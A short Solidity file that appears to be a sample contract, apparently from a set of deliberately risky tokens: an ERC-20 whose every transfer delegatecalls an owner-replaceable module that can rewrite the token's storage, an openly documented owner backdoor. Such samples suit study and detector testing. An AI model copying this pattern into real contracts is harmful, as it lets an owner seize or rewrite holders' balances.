// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite, RtOwnable} from "./RtCommon.sol";

/// @title RtModularHook
/// @notice Every transfer delegatecalls a "module" the owner can replace:
/// the module runs with the token's storage and can rewrite anything.
contract RtModularHook is RtERC20Lite, RtOwnable {
    address private _module;

    constructor(address module_) RtERC20Lite("Modular Hook", "MODH", 18) {
        _module = module_;
        _mint(msg.sender, 12_000_000 ether);
    }

    function setModule(address m) external onlyOwner {
        _module = m;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        super._transfer(from, to, amount);
        address m = _module;
        if (m != address(0)) {
            (bool ok,) = m.delegatecall(abi.encodeWithSelector(0x4a4f2a1b, from, to, amount));
            require(ok, "module");
        }
    }
}

/// @title RtHookNoop
/// @notice The harmless module RtModularHook starts with.
contract RtHookNoop {
    fallback() external {}
}
